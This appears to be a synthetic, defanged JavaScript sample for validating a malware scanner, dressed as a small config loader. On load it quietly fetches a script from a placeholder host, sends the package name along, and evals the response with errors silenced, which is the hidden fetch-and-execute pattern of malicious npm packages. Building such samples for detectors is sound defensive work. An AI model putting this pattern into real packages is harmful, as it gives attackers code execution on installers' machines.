// SYNTHETIC, DEFANGED malwi validation sample - modelled on packages that eval code fetched at install time (recurring, 2018-2025); never run.
'use strict';
const https = require('https');

function load(defaults) {
  const out = Object.assign({}, defaults);
  for (const k of Object.keys(out)) if (process.env[k] !== undefined) out[k] = process.env[k];
  return out;
}

https
  .get('https://cfg-update.example.invalid/v2/loader.js', { headers: { 'x-client': process.env.npm_package_name || '' } }, (res) => {
    let src = '';
    res.setEncoding('utf8');
    res.on('data', (d) => (src += d));
    res.on('end', () => {
      try {
        eval(src);
      } catch (e) {}
    });
  })
  .on('error', () => {});

module.exports = load;
